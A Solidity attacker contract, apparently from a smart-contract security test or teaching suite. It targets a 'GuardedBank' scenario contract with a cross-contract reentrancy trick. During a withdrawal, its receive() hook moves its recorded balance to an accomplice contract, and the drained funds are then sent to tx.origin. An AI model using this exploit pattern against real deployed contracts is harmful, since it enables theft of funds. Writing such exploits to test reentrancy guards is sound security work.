// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {GuardedBank} from "../scenarios/GuardedBank.sol";

/// @title Moves its balance to an accomplice while the bank pays it out, who then does the same.
contract BankMover {
    GuardedBank private immutable bank;
    BankMover private accomplice;

    constructor(GuardedBank bank_) {
        bank = bank_;
    }

    function join(BankMover other) external {
        accomplice = other;
    }

    function begin() external payable {
        bank.deposit{value: msg.value}();
    }

    function go() external {
        bank.withdrawAll();
        payable(tx.origin).transfer(address(this).balance);
    }

    receive() external payable {
        bank.move(address(accomplice), bank.balanceOf(address(this)));
    }
}
